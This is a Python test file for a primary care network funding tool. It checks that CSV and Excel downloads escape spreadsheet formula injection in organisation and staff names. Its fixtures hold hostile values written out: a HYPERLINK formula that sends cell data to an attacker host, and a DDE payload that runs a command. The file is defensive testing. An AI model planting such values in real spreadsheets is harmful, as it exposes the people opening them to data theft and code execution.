"""Issue 10 items 4 and 25: every CSV and Excel download is safe to open in a spreadsheet.

The attack: PCN and practice names that are spreadsheet formulas (`=HYPERLINK(...)`, `@SUM(1)`)
and ARRS staff named `@SUM(1)` / `-2+3`, fetched through every download (funding CSV and xlsx
for a PCN, a practice and an area, the ARRS tables, the population list CSV, `registry check
--format csv` and the funding CLI's csv/xlsx). No cell may start a formula; negative amounts
stay numbers. CSV downloads carry a UTF-8 byte-order mark; workbooks open on a cover sheet and
end their tables with a totals row.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal

import pyarrow as pa
import pytest
from openpyxl import load_workbook
from sqlalchemy import update
from typer.testing import CliRunner
from web_login import sign_in

from pcnkit.cli import app as cli_app
from pcnkit.demo import build_demo, demo_ledger, demo_staff, demo_users
from pcnkit.spreadsheet import BOM, FORMULA_START, cell, neutralise
from pcnkit.store.models import Organisation, OrganisationName

PCN = "U00367"
PRACTICE = "F82002"
EVIL_PCN = '=HYPERLINK("http://attacker.example/?x="&A1,"Havering South")'
EVIL_PRACTICE = "@SUM(1)"
EVIL_STAFF = ("@SUM(1)", "-2+3", "+cmd|' /C calc'!A0", "\tTAB", "\rCR")


def _dangerous(text: str) -> bool:
    """Text a spreadsheet would read as a formula."""
    return text.startswith(FORMULA_START) and not re.fullmatch(r"[+-]?\d+(\.\d+)?", text)


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory):
    """A BHR demo workspace (registry, funding, users, ARRS roster, paid ledger) whose every PCN
    and practice name is a formula, and whose ARRS staff are named as formulas."""

    class Demo:
        pass

    folder = tmp_path_factory.mktemp("poisoned") / "demo"
    demo = Demo()
    demo.folder = folder
    demo.ws = build_demo(folder)
    with demo.ws.transaction() as session:
        demo.logins = {x.username: x for x in demo_users(session, folder)}
        roster = demo_staff(session, folder)
        demo_ledger(session)
        ids = dict(
            session.execute(
                Organisation.__table__.select().with_only_columns(
                    Organisation.code, Organisation.id
                )
            ).all()
        )
        pcn_ids = [
            i
            for (i,) in session.execute(
                Organisation.__table__.select()
                .with_only_columns(Organisation.id)
                .where(Organisation.kind.in_(("pcn", "practice")))
            )
        ]
        for table, key in (
            (Organisation, Organisation.id),
            (OrganisationName, OrganisationName.org_id),
        ):
            session.execute(
                update(table).where(key.in_(pcn_ids), key != ids[PCN]).values(name=EVIL_PRACTICE)
            )
            session.execute(update(table).where(key == ids[PCN]).values(name=EVIL_PCN))
    with open(roster, encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    for i, row in enumerate(rows):
        row["name"] = EVIL_STAFF[i % len(EVIL_STAFF)]
    with open(roster, "w", encoding="utf-8", newline="") as out:
        writer = csv.DictWriter(out, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    yield demo
    demo.ws.dispose()


def _client(demo, username):
    from fastapi.testclient import TestClient

    from pcnkit.web.app import create_app

    client = TestClient(create_app(demo.ws, default_as_of=dt.date(2020, 1, 1)))
    return sign_in(client, username, demo.logins[username].password)


def _csv_cells(content: bytes) -> list[list[str]]:
    assert content.startswith(BOM.encode("utf-8")), "a CSV download starts with a UTF-8 BOM"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def _assert_safe_csv(content: bytes) -> list[list[str]]:
    rows = _csv_cells(content)
    for row in rows:
        for value in row:
            assert not _dangerous(value), value
    return rows


def _assert_safe_xlsx(content: bytes):
    book = load_workbook(io.BytesIO(content))
    numbers = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{sheet.title}!{c.coordinate} is a formula: {c.value}"
                if isinstance(c.value, str):
                    assert not _dangerous(c.value), (sheet.title, c.coordinate, c.value)
                if isinstance(c.value, int | float):
                    numbers += 1
    assert numbers, "money stays numeric"
    return book


def test_one_function_neutralises_text_and_keeps_numbers():
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("@SUM(1)") == "'@SUM(1)"
    assert neutralise("+44 20") == "'+44 20"
    assert neutralise("-2+3") == "'-2+3"
    assert neutralise("\tx") == "'\tx" and neutralise("\rx") == "'\rx"
    assert neutralise("Havering South") == "Havering South"
    assert neutralise("-12.50") == "-12.50"  # text that is only a number is left alone
    assert cell(Decimal("-12.50")) == Decimal("-12.50")  # numbers stay numbers
    assert cell(-3) == -3 and cell(None) is None and cell(True) is True


def test_funding_downloads_neutralise_formulas(poisoned):
    """PCN user: every CSV part and the workbook of the PCN page; commissioner: the area's."""
    client = _client(poisoned, "havering.south")
    page = client.get(f"/api/funding/{PCN}").json()
    parts = list(page["links"]["csv"])
    assert {"entitlements", "arrs", "ledger", "reconciliation"} <= set(parts)
    seen_names = False
    for part in parts:
        response = client.get(f"/funding/{PCN}/download.csv", params={"part": part})
        assert response.status_code == 200, part
        rows = _assert_safe_csv(response.content)
        flat = [v for row in rows for v in row]
        seen_names |= ("'" + EVIL_PCN) in flat or ("'" + EVIL_PRACTICE) in flat
        if part == "arrs":
            assert "'@SUM(1)" in flat and "'-2+3" in flat  # staff names, escaped
    assert seen_names, "the poisoned names reach the downloads (escaped)"
    book = _assert_safe_xlsx(client.get(f"/funding/{PCN}/download.xlsx").content)
    values = [c.value for s in book.worksheets for row in s.iter_rows() for c in row]
    assert "'" + EVIL_PCN in values and "'@SUM(1)" in values

    area = _client(poisoned, "nel.icb")
    for part in area.get("/api/funding/QMF").json()["links"]["csv"]:
        _assert_safe_csv(area.get("/funding/QMF/download.csv", params={"part": part}).content)
    _assert_safe_xlsx(area.get("/funding/QMF/download.xlsx").content)


def test_negative_amounts_stay_numbers(poisoned):
    """A correction of -£12.34 in the ledger is a number in the workbook, not escaped text."""
    from pcnkit.funding import ledger

    with poisoned.ws.transaction() as session:
        ledger.correct(
            session,
            "2019/20",
            dt.date(2019, 12, 1),
            PCN,
            PCN,
            "core_pcn_funding",
            __import__("decimal").Decimal("-12.34"),
            "test: a clawback",
        )
    client = _client(poisoned, "havering.south")
    book = _assert_safe_xlsx(client.get(f"/funding/{PCN}/download.xlsx").content)
    sheet = book["ledger"]
    header = [c.value for c in sheet[1]]
    amounts = [r[header.index("amount")] for r in sheet.iter_rows(min_row=2, values_only=True)]
    assert -12.34 in amounts
    rows = _assert_safe_csv(
        client.get(f"/funding/{PCN}/download.csv", params={"part": "ledger"}).content
    )
    assert "-12.34" in [v for row in rows for v in row]


def test_registry_check_csv_neutralises_formulas(poisoned):
    result = CliRunner().invoke(
        cli_app,
        [
            "registry",
            "check",
            "--area",
            "BHR",
            "--as-of",
            "2019-12-01",
            "--format",
            "csv",
            "-w",
            str(poisoned.folder),
        ],
    )
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert len(rows) > 1
    flat = [v for row in rows for v in row]
    assert any(v.startswith("'@SUM(1)") or v.startswith("'=HYPERLINK") for v in flat)
    assert not any(_dangerous(v) for v in flat)


def test_funding_cli_csv_and_xlsx_neutralise_formulas(poisoned, tmp_path):
    runner = CliRunner()
    common = ["--year", "2019/20", "--area", "BHR", "-w", str(poisoned.folder)]
    out = runner.invoke(cli_app, ["funding", "entitlements", *common, "--format", "csv"])
    assert out.exit_code == 0, out.output
    flat = [v for row in csv.reader(io.StringIO(out.stdout)) for v in row]
    assert "'" + EVIL_PCN in flat and not any(_dangerous(v) for v in flat)
    target = tmp_path / "arrs.xlsx"
    roster = poisoned.folder / "funding" / "arrs-staff-2019-20.csv"
    out = runner.invoke(
        cli_app,
        ["funding", "arrs", *common, "--staff", str(roster), "--format", "xlsx", "-o", str(target)],
    )
    assert out.exit_code == 0, out.output
    _assert_safe_xlsx(target.read_bytes())


def test_population_list_csv_neutralises_formulas(web_demo, monkeypatch):
    """The patient-list download goes through the same function (values played in through the
    list table the route reads)."""
    from pcnkit.web.views import population

    table = pa.table({"pseudonym": ["=HYPERLINK(1)", "P2"], "practice": ["@SUM(1)", PRACTICE]})
    monkeypatch.setattr(population, "_list_table", lambda c, list_id, codes: (None, table))
    client = web_demo.client("havering.south")
    response = client.get(f"/population/{PCN}/lists/smr.csv")
    assert response.status_code == 200, response.text
    rows = _assert_safe_csv(response.content)
    assert rows[1] == ["'=HYPERLINK(1)", "'@SUM(1)"]


def test_workbook_has_a_cover_sheet_and_totals(poisoned):
    client = _client(poisoned, "havering.south")
    book = load_workbook(io.BytesIO(client.get(f"/funding/{PCN}/download.xlsx").content))
    assert book.sheetnames[0] == "About"
    cover = {r[0]: r[1] for r in book["About"].iter_rows(values_only=True)}
    assert PCN in cover["Organisation"]
    assert cover["Contract year"] == "2019/20"
    assert str(cover["Figures as at"]).startswith("2020-01-01")
    assert "Extended hours access" in cover["WARNING: figures not confirmed"]
    assert "Network participation payment" in cover["WARNING: figures not confirmed"]
    assert "[S" not in cover["Sources"] and ".yaml" not in str(cover["Rules"])
    sheet = book["entitlements"]
    header = [c.value for c in sheet[1]]
    last = [c.value for c in sheet[sheet.max_row]]
    assert last[0] == "Total"
    amounts = [r[header.index("amount")] for r in sheet.iter_rows(min_row=2, values_only=True)]
    assert round(sum(amounts[:-1]), 2) == round(amounts[-1], 2)
    assert abs(amounts[-1] - float(cover["Total entitlement"])) < 0.005
